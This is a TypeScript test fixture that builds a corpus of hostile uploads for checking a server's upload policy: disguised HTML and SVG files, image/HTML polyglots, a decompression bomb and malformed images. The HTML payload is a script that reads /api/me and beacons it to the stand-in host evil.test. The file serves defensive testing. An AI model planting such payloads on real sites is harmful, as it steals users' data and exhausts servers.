/**
 * A corpus of hostile uploads for tests: each one is something an attacker
 * sends to get script running on your origin or to exhaust the server. Run
 * your own upload policy against it (`allowedTypes`, `imageDimensions`).
 */
import { sampleGif, samplePng } from './sample-images.js'

/** One hostile upload, as a client would send it. */
export interface HostileUpload {
  title: string
  filename: string
  /** The content type the client declares. */
  contentType: string
  bytes: Buffer
}

const HTML = '<!DOCTYPE html><html><body><script>fetch("/api/me").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.test",t))</script></body></html>'
const SVG = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script></svg>'

/**
 * @returns fresh copies of the corpus (oversized and truncated streams are
 * built by the tests themselves, since they are about streaming). Never throws.
 */
export function hostileUploads(): HostileUpload[] {
  return [
    { title: 'HTML renamed .png', filename: 'cat.png', contentType: 'image/png', bytes: Buffer.from(HTML) },
    { title: 'HTML declared as octet-stream with no extension', filename: 'cat', contentType: 'application/octet-stream', bytes: Buffer.from(HTML) },
    { title: 'SVG with script, named .svg', filename: 'logo.svg', contentType: 'image/svg+xml', bytes: Buffer.from(SVG) },
    { title: 'SVG with script renamed .png', filename: 'logo.png', contentType: 'image/png', bytes: Buffer.from(SVG) },
    { title: 'PNG/HTML polyglot (script in a tEXt chunk)', filename: 'poly.png', contentType: 'image/png', bytes: samplePng(2, 2, { text: HTML }) },
    { title: 'GIF/HTML polyglot', filename: 'poly.gif', contentType: 'image/gif', bytes: sampleGif(2, 2, `<html><script>alert(1)</script></html>`) },
    { title: 'PNG declared as JPEG', filename: 'photo.jpg', contentType: 'image/jpeg', bytes: samplePng(2, 2) },
    {
      title: 'decompression bomb: PNG claiming 100000 × 100000 pixels',
      filename: 'bomb.png',
      contentType: 'image/png',
      bytes: samplePng(100_000, 100_000, { pixels: false }),
    },
    { title: 'PNG header cut short', filename: 'short.png', contentType: 'image/png', bytes: samplePng(2, 2).subarray(0, 20) },
    { title: 'empty file named .png', filename: 'empty.png', contentType: 'image/png', bytes: Buffer.alloc(0) },
  ]
}
